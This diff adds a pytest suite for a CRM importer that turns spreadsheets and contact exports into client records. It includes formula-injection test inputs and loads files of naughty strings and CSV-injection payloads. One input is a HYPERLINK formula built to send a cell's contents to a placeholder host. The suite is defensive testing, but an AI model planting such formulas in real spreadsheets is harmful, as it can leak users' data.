@@ -1,0 +1,355 @@
+"""A client list from any sheet: every client right, every faulty cell named."""
+
+from __future__ import annotations
+
+import json
+from datetime import date
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from advisorcrm.errors import ImportRejectedError
+from advisorcrm.imports.client_list import ClientListFile, recognise_clients
+from advisorcrm.imports.raw_table import RawTable, Span
+from advisorcrm.terms import BirthdayKept, PointKind
+from tests.imports.sheets import (
+    BOOK,
+    EXPECTED,
+    REAL,
+    TODAY,
+    clients_of,
+    only,
+    reason,
+    recognised,
+    workbook,
+)
+
+TIERS = {"银卡": "silver", "金卡": "gold", "白金卡": "platinum"}
+NAUGHTY = [
+    text
+    for text in json.loads((REAL / "bad" / "blns.json").read_text(encoding="utf-8"))
+    if text.strip()
+]
+
+
+def points(values: dict[str, Any], kind: PointKind) -> list[str]:
+    return [value for found, value in values["points"] if found is kind]
+
+
+@pytest.mark.req("R71")
+def test_the_branch_list_gives_exactly_its_clients() -> None:
+    sheet = clients_of(REAL / "excel" / "高端客户明细表_a.xlsx")
+    truth = EXPECTED["excel/高端客户明细表_a.xlsx"]["facts"]["clients_truth"]
+    found = [
+        {
+            "row": row.row,
+            "name": row.values["name"],
+            "account": row.values["account"],
+            "mobile": row.values["points"][0][1],
+            "birthday": str(row.values["birthday"]),
+            "type": {code: word for word, code in TIERS.items()}[row.values["tier"]],
+            "opened": str(row.values["opened_on"]),
+            "assets": row.values["assets_fen"],
+            "commission": row.values["commission_ppm"],
+        }
+        for row in sheet.rows
+    ]
+    expected = [
+        {name: client[name] for name in ("row", "name", "account", "mobile", "birthday", "type",
+                                         "opened")}
+        | {
+            "assets": int(Decimal(client["assets_wan"]) * 1_000_000),
+            "commission": int(Decimal(client["commission_permille"]) * 1_000),
+        }
+        for client in truth
+    ]  # fmt: skip
+    assert found == expected
+    assert [row.faults for row in sheet.rows] == [()] * 24
+    assert sheet.rows[4].values["remark"] == "=1+1"
+    assert sheet.rows[5].values["remark"] == "第一行\n第二行"
+
+
+def test_remarks_that_look_like_formulas_come_back_character_by_character() -> None:
+    sheet = clients_of(REAL / "bad" / "formula_clients_gbk.csv")
+    assert [row.values["remark"] for row in sheet.rows] == [
+        "=1+1", "-1+1", '=HYPERLINK("http://example.invalid/?"&A1,"点我")', "\r=1+1", "＝1+1",
+        "0=1+1", "'=1+1", "%0A=1+1", "-5.2%", "-张样",
+    ]  # fmt: skip
+    assert sheet.encoding == "gb18030"
+
+
+def test_a_remark_too_long_for_a_cell_costs_its_own_row() -> None:
+    sheet = clients_of(REAL / "bad" / "huge_cell.csv")
+    (fault,) = sheet.rows[0].faults
+    assert (fault.row, fault.column) == (2, "备注")
+    assert "200000" in fault.reason
+    assert sheet.rows[1].faults == ()
+
+
+def test_an_open_quote_is_told_with_its_line() -> None:
+    sheet = clients_of(REAL / "bad" / "quotes_unbalanced.csv")
+    assert [(row.values["name"], len(row.faults)) for row in sheet.rows] == [
+        ("样甲", 1), ("样乙", 0), ("样丙", 0),
+    ]  # fmt: skip
+    assert "第 2 行" in sheet.rows[0].faults[0].reason
+
+
+def test_contacts_of_a_mail_program_become_clients() -> None:
+    sheet = clients_of(REAL / "contacts" / "outlook_zh_gb2312.csv")
+    assert len(sheet.rows) == 25
+    assert not any(row.faults for row in sheet.rows)
+    first, fourth = sheet.rows[0].values, sheet.rows[3].values
+    assert (first["name"], first["birthday"]) == ("仇示癸", date(1975, 2, 28))
+    assert points(dict(first), PointKind.MOBILE) == ["13900010000"]
+    assert first["remark"] == '第一行\r\n第二行"引号"，逗号'
+    assert (fourth["name"], fourth["birthday"]) == ("查测", None)
+    assert sheet.rows[2].values["name"] == "只有名"
+    born = [row.values["birthday"] for row in sheet.rows]
+    assert sum(1 for day in born if day and (day.month, day.day) == (2, 29)) == 3
+
+
+def test_contacts_of_a_telephone_become_clients() -> None:
+    sheet = clients_of(REAL / "contacts" / "google_contacts_new.csv")
+    assert len(sheet.rows) == 22
+    assert not any(row.faults for row in sheet.rows)
+    first = dict(sheet.rows[0].values)
+    assert (first["name"], first["birthday_month_day"]) == ("朴演辛", "02-29")
+    assert points(first, PointKind.MOBILE) == ["13900030000"]
+    assert points(first, PointKind.LANDLINE) == ["010-00000000"]
+    two = [row for row in sheet.rows if len(points(dict(row.values), PointKind.LANDLINE)) == 1]
+    assert len(two) == 6
+    assert ["日期“1988-12”没有日，没有导入。"] in [[n.reason for n in r.notes] for r in sheet.rows]
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["converter03.xls", "dataformat.xlsx", "date_1904.xls", "extra_merged_comment_link.xlsx",
+     "merge_cells.xls", "t01_instruction_row_then_header.xls", "demo_utf8_bom.csv", "no_bom.csv"],
+)  # fmt: skip
+def test_a_sheet_that_is_no_client_list_is_refused_in_words(name: str) -> None:
+    with pytest.raises(ImportRejectedError, match="没有找到客户表的表头"):
+        clients_of(REAL / "excel" / name)
+
+
+@pytest.mark.parametrize("text", NAUGHTY)
+def test_every_naughty_string_survives_as_a_remark(text: str) -> None:
+    sheet = recognised(["客户姓名", "资金账号", "备注"], ["样甲", "990001", text])
+    (row,) = sheet.rows
+    assert row.faults == ()
+    kept = row.values["remark"]
+    assert kept == text or (row.notes and set(text) - set(kept))
+
+
+def test_injected_formulas_survive_as_names_and_remarks() -> None:
+    lines = (REAL / "bad" / "csv_injection_payloads.txt").read_text(encoding="utf-8").splitlines()
+    for line in lines:
+        values = only(
+            recognised(["客户姓名", "资金账号", "备注"], [line, "990001", line])
+        )
+        assert (values["name"], values["remark"]) == (" ".join(line.split()), line)
+
+
+@pytest.mark.req("R146")
+@pytest.mark.parametrize(
+    ("heading", "cell", "words"),
+    [
+        ("资金账号", 1.2e17, "科学计数"),
+        ("资金账号", "9.9E+11", "科学计数"),
+        ("资金账号", "账号", "只能有数字"),
+        ("手机", "1390000000", "10 位"),
+        ("证件号码", "110105194912310021", "校验码应为 X"),
+        ("电子邮件", "zhangsan.example.cn", "@"),
+        ("出生日期", "2023-02-29", "没有 29 日"),
+        ("出生日期", "2027-01-01", "晚于今天"),
+        ("总资产", "--", "不是数字"),
+        ("佣金(‰)", "90", "30‰"),
+        ("职业", "长" * 121, "最多 120 字"),
+    ],
+)
+def test_a_faulty_cell_is_named_with_row_heading_and_reason(
+    heading: str, cell: object, words: str
+) -> None:
+    row = {"客户姓名": "样甲", "资金账号": "990001", "手机": "", heading: cell}
+    sheet = recognised(["标题"], list(row), list(row.values()), first_row_number=5)
+    (fault,) = sheet.rows[0].faults
+    assert (fault.row, fault.column) == (7, heading)
+    assert words in fault.reason
+
+
+def test_all_faults_of_a_row_are_told() -> None:
+    sheet = recognised(
+        ["客户姓名", "资金账号", "手机", "生日", "客户类型"],
+        ["", "9901x!", "123456789", "昨天", "钻石"],
+    )
+    assert [fault.column for fault in sheet.rows[0].faults] == [
+        "资金账号", "手机", "生日", "客户类型", "客户姓名",
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("cell", "account"),
+    [
+        ("000123456789", "000123456789"), (990000000007.0, "990000000007"),
+        ('="000123"', "000123"), ("'000123", "000123"), ("９９０００１", "990001"),
+        ("9900 0001", "99000001"), ("990001.0", "990001"), ("A-100200", "A-100200"),
+    ],
+)  # fmt: skip
+def test_an_account_is_text_with_its_zeros(cell: object, account: str) -> None:
+    assert only(recognised(["客户姓名", "资金账号"], ["样甲", cell]))["account"] == account
+
+
+def test_masked_cells_mean_unchanged() -> None:
+    values = only(
+        recognised(
+            ["客户姓名", "客户号", "资金账号", "手机", "电子邮件", "证件号码", "联系地址", "备注"],
+            ["张*", "LSL-0001", "****3456", "138****5678", "z***n@126.com", "110*********1234",
+             "济南市历下区******", "评分 ***"],
+        )
+    )  # fmt: skip
+    assert values == {"client_no": "LSL-0001", "points": [], "remark": "评分 ***"}
+
+
+def test_a_masked_account_alone_names_nobody() -> None:
+    sheet = recognised(
+        ["客户姓名", "资金账号", "手机"], ["样甲", "****3456", ""], ["样乙", "990002", ""]
+    )
+    assert "掩码" in sheet.rows[0].faults[0].reason
+    assert sheet.rows[1].faults == ()
+
+
+def test_a_client_without_account_is_a_fault_where_others_have_one() -> None:
+    sheet = recognised(["资金账号", "客户姓名"], ["990001", "样甲"], ["", "样乙"])
+    (fault,) = sheet.rows[1].faults
+    assert (fault.column, fault.reason) == ("资金账号", "没有资金账号。")
+    without = recognised(["资金账号", "客户姓名", "手机"], ["", "样甲", "13900000001"])
+    assert without.rows[0].faults == ()
+
+
+@pytest.mark.parametrize(
+    "footer",
+    [
+        ["合计", "24户", "", 11420.87], ["", "小　计", "", 3.0], ["审核人：", "", "", ""],
+        ["制表人：样", "", "", ""], ["共 3 户", "", "", ""], ["#数据来源:通达信", "", "", ""],
+        ["说明：以上数据截至十月", "", "", ""], ["", "", "", ""], ["7", "", "", ""],
+        ["序号", "客户姓名", "资金账号", "总资产"], ["必填", "必填", "文本", "数值"],
+    ],
+)  # fmt: skip
+def test_totals_signatures_blanks_and_repeated_heads_are_no_clients(footer: list[Any]) -> None:
+    sheet = recognised(
+        ["序号", "客户姓名", "资金账号", "总资产"], ["1", "样甲", "990001", 1.5], footer,
+        ["2", "样乙", "990002", 2.5],
+    )  # fmt: skip
+    assert [row.values["name"] for row in sheet.rows] == ["样甲", "样乙"]
+    assert not any(row.faults for row in sheet.rows)
+
+
+def test_a_cell_merged_over_clients_counts_for_each() -> None:
+    table = RawTable(
+        "表",
+        [["客户姓名", "资金账号", "客服专员"], ["样甲", "1001", "林样"], ["样乙", "1002", ""]],
+        merged=(Span(1, 2, 2, 2),),
+    )
+    sheet = recognise_clients([table], ClientListFile(Path("a.xlsx"), BOOK, TODAY))
+    assert [row.values["advisor"] for row in sheet.rows] == ["林样", "林样"]
+
+
+def test_birthdays_of_our_own_list_come_back() -> None:
+    values = only(
+        recognised(
+            ["客户姓名", "资金账号", "生日（公/农）", "出生日期", "农历生日", "过生日"],
+            ["样甲", "990001", "农十月十五", "1964-11-18", "十月十五", "过农历"],
+        )
+    )
+    assert values["birthday"] == date(1964, 11, 18)
+    assert (values["lunar_month"], values["lunar_day"], values["lunar_is_leap"]) == (10, 15, False)
+    assert values["birthday_kept"] is BirthdayKept.LUNAR
+
+
+@pytest.mark.parametrize(
+    ("cell", "expires", "permanent"),
+    [
+        ("2030-01-01", date(2030, 1, 1), False), ("长期", None, True),
+        ("2010.01.01-2030.01.01", date(2030, 1, 1), False),
+        ("20100101至20300101", date(2030, 1, 1), False),
+    ],
+)  # fmt: skip
+def test_an_expiry_may_be_a_span_or_for_ever(
+    cell: str, expires: date | None, permanent: bool
+) -> None:
+    values = only(recognised(["客户姓名", "资金账号", "证件有效期"], ["样甲", "990001", cell]))
+    assert (values["id_expires_on"], values["id_is_permanent"]) == (expires, permanent)
+
+
+def test_numbers_of_several_columns_stand_together_once() -> None:
+    values = only(
+        recognised(
+            ["客户姓名", "手机", "联系电话", "固定电话", "邮箱", "微信", "其他联系方式"],
+            ["样甲", 13900000001.0, "13900000001、021-63210000", "-", "a@example.cn；b@example.cn",
+             "wx_1", "手机 13900000009\n电子邮箱 c@example.cn"],
+        )
+    )  # fmt: skip
+    assert values["points"] == [
+        (PointKind.MOBILE, "13900000001"), (PointKind.LANDLINE, "021-63210000"),
+        (PointKind.EMAIL, "a@example.cn"), (PointKind.EMAIL, "b@example.cn"),
+        (PointKind.WECHAT, "wx_1"), (PointKind.MOBILE, "13900000009"),
+        (PointKind.EMAIL, "c@example.cn"),
+    ]  # fmt: skip
+
+
+def test_a_line_with_more_cells_than_headings_is_not_pushed_aside(tmp_path: Path) -> None:
+    path = tmp_path / "a.csv"
+    path.write_text("姓名,资金账号,备注\n样甲,990001,一,二\n样乙,990002,三\n", encoding="utf-8")
+    sheet = clients_of(path)
+    assert "比表头多" in sheet.rows[0].faults[0].reason
+    assert sheet.rows[1].faults == ()
+
+
+def test_two_lists_in_one_workbook_are_both_read(tmp_path: Path) -> None:
+    path = workbook(
+        tmp_path / "a.xlsx",
+        [["客户姓名", "资金账号"], ["样甲", "990001"]],
+        [["说明"], ["这一页没有客户"]],
+        [["标题"], ["姓名", "账号", "手机"], ["样乙", "990002", "1390000000"]],
+    )
+    sheet = clients_of(path)
+    assert [(row.sheet, row.row, row.values["name"]) for row in sheet.rows] == [
+        ("表1", 2, "样甲"), ("表3", 3, "样乙"),
+    ]  # fmt: skip
+    assert sheet.rows[1].faults[0].sheet == "表3"
+
+
+def test_a_list_without_rows_is_refused() -> None:
+    with pytest.raises(ImportRejectedError, match="没有客户"):
+        recognised(["客户姓名", "资金账号"], ["合计", ""])
+
+
+def test_the_mapping_page_gets_masked_samples(tmp_path: Path) -> None:
+    path = workbook(
+        tmp_path / "a.xlsx",
+        [["客户姓名", "资金账号", "手机", "学历"], ["何样康", "010012346037", "13900005678", "本科"]],
+    )
+    assert [(column.heading, column.field, column.sample) for column in clients_of(path).columns] == [
+        ("客户姓名", "name", "何*康"), ("资金账号", "account", "0100****6037"),
+        ("手机", "mobile", "139****5678"), ("学历", "", "本科"),
+    ]  # fmt: skip
+
+
+def test_a_column_is_mapped_by_hand(tmp_path: Path) -> None:
+    path = workbook(
+        tmp_path / "a.xlsx", [["客户姓名", "资金账号", "学历"], ["样甲", "990001", "本科"]]
+    )
+    sheet = clients_of(path, 学历="remark")
+    assert sheet.rows[0].values["remark"] == "本科"
+
+
+def test_a_number_of_the_wrong_document_is_told() -> None:
+    sheet = recognised(
+        ["客户姓名", "资金账号", "证件类型", "证件号码"], ["样甲", "990001", "身份证", "E12345678"]
+    )
+    assert "18 位" in reason(sheet)
+    values = only(
+        recognised(["客户姓名", "资金账号", "证件号码"], ["样甲", "990001", "32010219010315003x"])
+    )
+    assert (values["id_number"], values["id_document"]) == ("32010219010315003X", "id_card")
